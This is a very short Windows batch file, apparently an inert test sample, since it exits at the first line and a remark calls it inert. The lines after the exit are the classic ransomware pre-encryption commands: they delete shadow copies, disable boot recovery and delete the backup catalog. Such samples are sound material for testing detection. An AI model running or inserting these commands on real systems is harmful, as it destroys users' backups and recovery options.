exit /b
rem inert sample
vssadmin.exe delete shadows /all /quiet
bcdedit /set {default} recoveryenabled no
wbadmin delete catalog -quiet
